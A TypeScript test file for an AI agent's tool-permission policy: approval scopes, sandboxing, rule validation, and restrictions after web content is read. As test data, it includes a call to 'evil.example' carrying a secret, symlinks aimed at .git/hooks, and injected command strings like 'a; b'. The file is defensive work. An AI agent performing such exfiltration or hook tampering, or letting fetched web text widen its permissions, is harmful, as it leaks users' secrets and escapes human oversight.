import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { MemoryStorage, until } from "@dispatch/testkit";
import { policyCommandCharsMax, policyRulesMax } from "@dispatch/transport-contract";
import { expect, test } from "vitest";
import { absent, calls, done, openPolicy } from "./policy.fixture.ts";

test("what stays in the mode is done unasked; what leaves it waits for a person, who is told why and what a wider yes would grant", async () => {
  const hook = { path: ".git/hooks/pre-push", content: "x" };
  await using desk = await openPolicy({
    answers: [
      calls(["read_file", { path: "a" }], ["write_file", { path: "a" }], ["run_shell", { command: "make" }]),
      calls(["write_file", hook]),
      done,
    ],
  });
  const asked = await desk.turn("Go", ["once"]);
  expect(desk.ran).toEqual(["read_file a", "write_file a", "run_shell make", "write_file .git/hooks/pre-push"]);
  expect(asked).toMatchObject([
    {
      toolName: "write_file",
      input: hook,
      why: "It changes what git or Dispatch take orders from.",
      rule: null,
      scopes: ["once", "conversation", "workspace", "always"],
      grants: `From then on write_file may change ${desk.folder}/.git/hooks/pre-push.`,
    },
  ]);
});

test("a no is what the model reads, and nothing is done", async () => {
  await using desk = await openPolicy({ answers: [calls(["write_file", { path: ".git/config" }]), done] });
  await desk.turn("Go", [false]);
  expect(desk.ran).toEqual([]);
  expect((await desk.results())[0]).toContain("Not that.");
});

for (const [scope, others] of [
  ["conversation", { c: [], d: ["ask"] }],
  ["always", { c: [], d: [] }],
] as const)
  test(`a yes for ${scope} is a rule for this very call alone`, async () => {
    const network = (command: string) => ["run_shell", { command, network: true }] as const;
    await using desk = await openPolicy({
      answers: [calls(network("npm install && npm test")), done, calls(network("npm test")), done, calls(network("npm test x")), done],
      config: { approval: "ask" },
    });
    const [asked] = await desk.turn("Go", [scope]);
    expect(asked?.grants).toBe(`From then on exactly \`npm install\`, \`npm test\` may run in ${desk.folder}, with the network.`);
    expect(await desk.turn("Again")).toEqual([]);
    expect(await desk.turn("More", [false])).toMatchObject([{ input: { command: "npm test x" } }]);
    const policy = await desk.op("policy.get", { conversationId: "c" });
    expect(policy.rules).toMatchObject([
      { effect: "allow", tool: "run_shell", command: "npm install", path: desk.folder, exact: true, reach: "network", scope, by: "ann" },
      { effect: "allow", tool: "run_shell", command: "npm test", path: desk.folder, exact: true, reach: "network", scope, by: "ann" },
    ]);
    const check = async (conversationId: string) =>
      (await desk.op("policy.check", { conversationId, tool: "run_shell", input: network("npm test")[1] })).decision;
    expect([await check("c"), await check("d")]).toEqual(["allow", others.d.length === 0 ? "allow" : "ask"]);
  });

test("a yes for the workspace holds in its other conversations", async () => {
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  await using desk = await openPolicy({ answers: [calls(install), done] });
  await desk.conversations.change("c", { workspaceId: "w" });
  await desk.conversations.change("d", { workspaceId: "w" });
  await desk.turn("Go", ["workspace"]);
  const check = async (conversationId: string) =>
    (await desk.op("policy.check", { conversationId, tool: install[0], input: install[1] })).decision;
  expect([await check("d"), await check("e")]).toEqual(["allow", "ask"]);
  expect(await desk.op("policy.workspace-get", { workspaceId: "w" })).toMatchObject({ mode: null, rules: [{ command: "npm i" }] });
  await desk.conversations.change("d", { workspaceId: "other" });
  await until(() => true);
  expect(await check("d")).toBe("ask");
});

test("with never what leaves the mode is refused, with auto it is done and recorded", async () => {
  const leave = calls(["run_shell", { command: "x", unconfined: true }]);
  await using strict = await openPolicy({ answers: [leave, done], config: { approval: "never" } });
  await strict.turn("Go");
  expect([strict.ran, strict.asked]).toEqual([[], []]);
  expect((await strict.results())[0]).toMatch(/not permitted.*Nobody is to be asked.*tell the person/s);
  await using easy = await openPolicy({ answers: [leave, done], config: { approval: "auto" } });
  await easy.turn("Go");
  expect([easy.ran, easy.asked]).toEqual([["run_shell x"], []]);
  expect(easy.journal.told("policy")).toMatchObject([{ attributes: { decision: "allow", tool: "run_shell" } }]);
});

test("a command reaches what its call was allowed, while it runs and no longer", async () => {
  const shell = (more: object = {}) => ["run_shell", { command: "x", ...more }] as const;
  await using desk = await openPolicy({
    answers: [calls(shell()), calls(shell({ network: true })), calls(shell()), calls(shell({ unconfined: true })), done],
  });
  await desk.turn("Go", ["once", "once"]);
  expect(desk.confined).toEqual([desk.strictest, { ...desk.strictest, network: true }, desk.strictest, { kind: "free" }]);
  expect(await desk.afterwards()).toEqual(desk.strictest);
  await using look = await openPolicy({ answers: [calls(shell()), calls(shell({ network: true })), done], config: { mode: "read-only" } });
  await look.turn("Go", ["once"]);
  expect(look.confined).toEqual([
    { ...look.strictest, writable: [] },
    { ...look.strictest, writable: [], network: true },
  ]);
  await using full = await openPolicy({ answers: [calls(shell()), done], config: { mode: "full" } });
  await full.turn("Go");
  expect([full.confined, await full.afterwards()]).toEqual([[{ kind: "free" }], { kind: "free" }]);
});

test("without a sandbox every command is asked about, and runs free once it is allowed", async () => {
  await using desk = await openPolicy({ answers: [calls(["run_shell", { command: "ls" }]), done], sandbox: absent });
  const [asked] = await desk.turn("Go", ["conversation"]);
  expect(asked?.grants).toBe(`From then on exactly \`ls\` may run in ${desk.folder}, unconfined.`);
  expect(desk.confined).toEqual([{ kind: "free" }]);
  expect(await desk.op("policy.get", { conversationId: "c" })).toMatchObject({
    sandbox: { available: false, reason: "There is no bubblewrap. Install it." },
    rules: [{ command: "ls", reach: "everything" }],
  });
});

test("what came from the web takes its power from rules and from auto, until a person speaks again", async () => {
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  const readers = [
    ["web_fetch", { url: "https://a.example/" }],
    ["odd_reader", { url: "x" }],
    ["run_shell", { command: "curl a.example", network: true }],
  ] as const;
  for (const reader of readers) {
    await using desk = await openPolicy({
      answers: [calls(reader), calls(install), done, calls(install), done],
      config: { approval: "auto" },
    });
    await desk.op("policy.set", { conversationId: "c", rules: [{ effect: "allow", command: "npm" }] });
    const asked = await desk.turn("Read https://a.example/ and go", [false]);
    expect(asked).toMatchObject([{ toolName: "run_shell", scopes: ["once"], why: expect.stringContaining("web") }]);
    expect(await desk.turn("Now you may")).toEqual([]);
    expect(desk.ran.filter((ran) => ran === "run_shell npm i")).toHaveLength(1);
  }
});

test("with never a tainted turn is refused what a rule would allow", async () => {
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  await using desk = await openPolicy({
    answers: [calls(["web_fetch", { url: "x" }]), calls(install), done],
    config: { approval: "never" },
  });
  await desk.op("policy.server-set", { rules: [{ effect: "allow", tool: "run_shell" }] });
  await desk.turn("Go");
  expect(desk.ran).toEqual(["web_fetch x"]);
});

test("a tainted turn fetches what somebody wrote, and asks before an address of its own making", async () => {
  const fetch = (url: string) => calls(["web_fetch", { url }]);
  const first = "https://a.example/";
  await using desk = await openPolicy({
    answers: [
      fetch(first),
      fetch("https://known.example/a?b=1"),
      fetch(first),
      fetch("https://known.example/a?b=12"),
      fetch("https://known.example/a?b"),
      fetch("https://evil.example/?d=secret"),
      done,
    ],
  });
  const asked = await desk.turn(`Read ${first}.`, [false, false, false]);
  expect(asked.map(({ input }) => (input as { url: string }).url)).toEqual([
    "https://known.example/a?b=12",
    "https://known.example/a?b",
    "https://evil.example/?d=secret",
  ]);
  expect(desk.ran).toHaveLength(3);
});

test("a turn that a vanished process tainted is tainted when it is taken up again", async () => {
  const storage = new MemoryStorage();
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  {
    await using desk = await openPolicy({
      answers: [calls(["web_fetch", { url: "x" }]), calls(install)],
      storage,
      config: { approval: "auto" },
    });
    await desk.conversations.submit({ conversationId: "c", text: "Go" });
    await until(() => desk.asked.length === 1);
  }
  await using desk = await openPolicy({ answers: [calls(install), done], storage, config: { approval: "auto" } });
  await until(() => desk.journal.told("policy").length > 0);
  expect(desk.journal.told("policy")).toMatchObject([{ attributes: { decision: "ask" } }]);
  expect(desk.ran).toEqual([]);
  expect(await desk.op("approvals.list")).toMatchObject({ approvals: [{ toolName: "run_shell", why: expect.stringContaining("web") }] });
});

test("in a folder whose programs nobody trusts, rules and auto let no command out", async () => {
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  await using desk = await openPolicy({ answers: [calls(install), done], config: { approval: "auto" } });
  await mkdir(join(desk.folder, ".dispatch"));
  await writeFile(join(desk.folder, ".dispatch/lsp.json"), "{}");
  const check = async () => (await desk.op("policy.check", { conversationId: "c", tool: install[0], input: install[1] })).decision;
  expect([await check(), (await desk.op("policy.get", { conversationId: "c" })).trusted]).toEqual(["ask", false]);
  const { hash } = await desk.op("trust.get", { folder: desk.folder });
  await desk.op("trust.set", { folder: desk.folder, hash });
  expect([await check(), (await desk.op("policy.get", { conversationId: "c" })).trusted]).toEqual(["allow", true]);
});

test("a link into git's own folder is where it leads", async () => {
  await using desk = await openPolicy({ answers: [calls(["write_file", { path: "innocent/x" }]), done] });
  await mkdir(join(desk.folder, ".git/hooks"), { recursive: true });
  await symlink(".git/hooks", join(desk.folder, "innocent"));
  expect(await desk.turn("Go", [false])).toMatchObject([{ scopes: ["once"] }]);
  expect(desk.ran).toEqual([]);
});

test("modes and rules are set for a conversation, its workspace and the server, and the nearest says", async () => {
  await using desk = await openPolicy({ answers: [], config: { mode: "read-only" } });
  const get = () => desk.op("policy.get", { conversationId: "c" });
  expect(await get()).toEqual({
    conversationId: "c",
    mode: "read-only",
    approval: "ask",
    rules: [],
    sandbox: { available: true },
    trusted: null,
  });
  await desk.op("policy.server-set", { mode: "workspace-write", approval: "never", rules: [{ effect: "allow", tool: "a" }] });
  await desk.op("policy.workspace-set", { workspaceId: "default", approval: "auto", rules: [{ effect: "deny", tool: "b" }] });
  const set = await desk.op("policy.set", {
    conversationId: "c",
    mode: "full",
    rules: [
      { effect: "ask", path: "x/" },
      { effect: "allow", host: "h" },
    ],
  });
  expect(set).toMatchObject({
    mode: "full",
    approval: "auto",
    rules: [{ id: "w1" }, { id: "c1", path: "x/", by: "ann", createdAt: 1_000_000 }, { id: "c2" }, { id: "a1" }],
  });
  expect(await get()).toEqual(set);
  expect(await desk.op("policy.set", { conversationId: "c", mode: null, rules: [{ id: "c2", effect: "allow", host: "h" }] })).toMatchObject(
    {
      mode: "workspace-write",
      rules: [{ id: "w1" }, { id: "c2" }, { id: "a1" }],
    },
  );
  expect(await desk.op("policy.get", { conversationId: "other" })).toMatchObject({ rules: [{ id: "w1" }, { id: "a1" }] });
});

test("a rule that would mean nothing is refused, with the others", async () => {
  await using desk = await openPolicy({ answers: [] });
  const set = (...rules: readonly object[]) => desk.op("policy.set", { conversationId: "c", rules });
  for (const bad of [
    {},
    { command: "a; b" },
    { command: "a 'b" },
    { command: "f() { a; }" },
    { path: "../x" },
    { path: "{a,b}".repeat(20) },
  ])
    await expect(set({ effect: "allow", tool: "x" }, { effect: "allow", ...bad }), JSON.stringify(bad)).rejects.toMatchObject({
      code: "policy/bad-rule",
      kind: "invalid",
    });
  expect(await desk.op("policy.get", { conversationId: "c" })).toMatchObject({ rules: [] });
  await expect(desk.op("policy.check", { conversationId: "c", tool: "none", input: {} })).rejects.toMatchObject({
    code: "policy/unknown-tool",
  });
});

// Reaches policyRulesMax.
test("a conversation may have so many rules; a yes beyond them counts for its call alone", async () => {
  const install = ["run_shell", { command: "npm i", network: true }] as const;
  await using desk = await openPolicy({ answers: [calls(install), done] });
  await desk.op("policy.set", {
    conversationId: "c",
    rules: Array.from({ length: policyRulesMax }, (_, n) => ({ effect: "allow", tool: `t${n}` })),
  });
  await desk.turn("Go", ["conversation"]);
  expect(desk.ran).toEqual(["run_shell npm i"]);
  expect((await desk.op("policy.get", { conversationId: "c" })).rules).toHaveLength(policyRulesMax);
  expect(desk.journal.told("policy-rule-not-kept")).toMatchObject([{ attributes: { code: "policy/too-many-rules" } }]);
});

test("rules go with their conversation", async () => {
  await using desk = await openPolicy({ answers: [done] });
  await desk.turn("Hi");
  await desk.op("policy.set", { conversationId: "c", mode: "full" });
  await desk.conversations.close("c");
  await desk.conversations.remove("c");
  expect(await desk.op("policy.get", { conversationId: "c" })).toMatchObject({ mode: "workspace-write" });
});

test("doctor says in one line what tools may do", async () => {
  await using desk = await openPolicy({ answers: [] });
  const line = async () => ((await desk.op("doctor.report")).checks as { id: string }[]).find(({ id }) => id === "policy.mode");
  expect(await line()).toEqual({
    id: "policy.mode",
    status: "ok",
    detail: "mode workspace-write, approval ask, 0 rules, commands run confined",
  });
  await desk.op("policy.server-set", { mode: "full" });
  expect(await line()).toMatchObject({ status: "warn", hint: expect.stringContaining("dispatch policy") });
});

test("a rule set while a turn runs counts for its next call", async () => {
  await using desk = await openPolicy({
    answers: [calls(["run_shell", { command: "a" }]), calls(["run_shell", { command: "b" }]), done],
    sandbox: absent,
  });
  const { events } = await desk.conversations.submit({ conversationId: "c", text: "Go" });
  await until(() => desk.asked.length === 1);
  await desk.op("policy.set", { conversationId: "c", rules: [{ effect: "deny", command: "b" }] });
  await desk.op("approvals.allow", { approvalId: desk.asked[0]?.id });
  await Array.fromAsync(events);
  expect([desk.ran, desk.asked.length]).toEqual([["run_shell a"], 1]);
});

test("a link that is turned while its call waits for an answer is not followed", async () => {
  await using desk = await openPolicy({ answers: [calls(["write_file", { path: ".dispatch/x" }]), done] });
  await mkdir(join(desk.folder, ".git/hooks"), { recursive: true });
  await mkdir(join(desk.folder, "plain"));
  await symlink("plain", join(desk.folder, ".dispatch"));
  const { events } = await desk.conversations.submit({ conversationId: "c", text: "Go" });
  await until(() => desk.asked.length === 1);
  await rm(join(desk.folder, ".dispatch"));
  await symlink(".git/hooks", join(desk.folder, ".dispatch"));
  await desk.op("approvals.allow", { approvalId: desk.asked[0]?.id });
  await Array.fromAsync(events);
  expect([desk.ran, (await desk.results())[0]]).toEqual([[], expect.stringContaining("lead somewhere else")]);
});

test("a conversation that was asked about before its first message has the rules of the workspace that it comes to be in", async () => {
  await using desk = await openPolicy({ answers: [calls(["odd_reader", { x: 1 }]), done] });
  await desk.op("policy.workspace-set", { workspaceId: "w", rules: [{ effect: "deny", tool: "odd_reader" }] });
  expect(await desk.op("policy.get", { conversationId: "c" })).toMatchObject({ rules: [] });
  await Array.fromAsync((await desk.conversations.submit({ conversationId: "c", text: "Go", workspaceId: "w" })).events);
  expect(desk.ran).toEqual([]);
});

test("a command in a rule has a bound, and so has the list of rules that is given", async () => {
  await using desk = await openPolicy({ answers: [] });
  const set = (rules: readonly object[]) => desk.op("policy.set", { conversationId: "c", rules });
  const long = (length: number) => set([{ effect: "deny", command: "a".repeat(length) }]);
  expect((await long(policyCommandCharsMax)).rules).toHaveLength(1);
  await expect(long(policyCommandCharsMax + 1)).rejects.toMatchObject({ kind: "invalid" });
  await expect(set(Array.from({ length: policyRulesMax + 1 }, () => ({ effect: "deny", tool: "x" })))).rejects.toMatchObject({
    kind: "invalid",
  });
});
